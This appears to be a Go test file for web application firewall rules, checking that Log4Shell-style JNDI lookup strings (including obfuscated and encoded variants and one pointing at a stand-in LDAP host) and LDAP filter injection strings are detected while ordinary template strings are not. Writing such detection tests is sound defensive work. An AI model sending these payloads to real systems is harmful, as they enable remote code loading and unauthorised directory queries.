package confirm

import "testing"

func TestALookupOfALogger(t *testing.T) {
	for _, rule := range []int{944150, 944151} {
		verdicts{
			rule: rule,
			counts: []string{
				"${jndi:ldap://h.example/a}", "${ctx:user}", "${ctx:-x}", "${${lower:j}ndi:x}", "${a${b}}", "${j${::-n}di:x}", "&dollar;{ctx:user}", "$&lbrace;ctx:user}", "%24%7Bctx:user%7D", `$\u007bctx:user}`, "${CTX:user}",
				"a ${ctx.a} and ${ctx:user}", "$ {ctx", "${ctx\n:user}", "&#36;{jndi:x}",
			},
			denied: []string{"${ctx.method} ${ctx.url} took ${ms}", "`/users/${ctx.params.id}`", "${ctxName}", "${ctx}"},
		}.check(t)
	}
}

func TestAFilterOfADirectory(t *testing.T) {
	filters := []string{"*)(uid=*", "a)(&)", "x)(|(cn=*", "x) | (cn=a", "})(uid=*", "})(uid = *)(cn=a", "x)(uid = *"}
	verdicts{rule: 921200, counts: filters}.check(t)
	verdicts{
		rule: 921200, kind: "code", counts: append(filters[:5:5], "x)(uid = *", "})(A = 1)\n*)(uid=*"),
		denied: []string{"(function (Kind) {\n  Kind[\"a\"] = \"b\";\n})(Kind = exports.Kind || (exports.Kind = {}));"},
	}.check(t)
}
